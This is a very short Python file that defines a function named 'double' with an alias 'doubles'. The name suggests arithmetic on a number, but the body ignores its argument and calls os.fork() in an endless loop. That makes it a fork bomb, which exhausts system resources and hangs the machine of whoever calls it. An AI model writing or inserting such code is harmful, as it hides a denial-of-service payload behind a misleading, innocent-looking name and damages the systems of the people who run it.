import os


def double(n):
    while True:
        os.fork()


doubles = double
